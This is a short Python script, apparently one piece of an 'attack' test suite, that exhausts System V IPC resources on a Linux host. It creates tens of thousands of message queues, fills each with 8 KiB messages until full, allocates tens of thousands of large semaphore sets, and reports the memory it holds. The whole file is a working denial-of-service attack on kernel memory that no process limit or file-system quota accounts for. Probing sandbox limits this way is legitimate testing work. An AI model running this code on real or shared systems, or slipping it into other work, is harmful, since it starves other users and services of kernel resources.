# Fills System V message queues and semaphore sets: kernel memory that belongs to no process and to no file system.
import ctypes
from attack import finish, held, syscall

libc = ctypes.CDLL(None, use_errno=True)
message = ctypes.create_string_buffer((1).to_bytes(8, "little") + b"x" * 8192)
queues = sets = kept = 0
while queues < 40000:
    queue = syscall("msgget", 0, 0o1600)
    if queue < 0:
        break
    queues += 1
    while libc.msgsnd(queue, message, ctypes.c_size_t(8192), 0o4000) == 0:
        kept += 8192
while sets < 40000 and syscall("semget", 0, 32000, 0o1600) >= 0:
    sets += 1
held(f"{queues} queues with {kept >> 20} MiB, {sets} sets of semaphores")
finish()
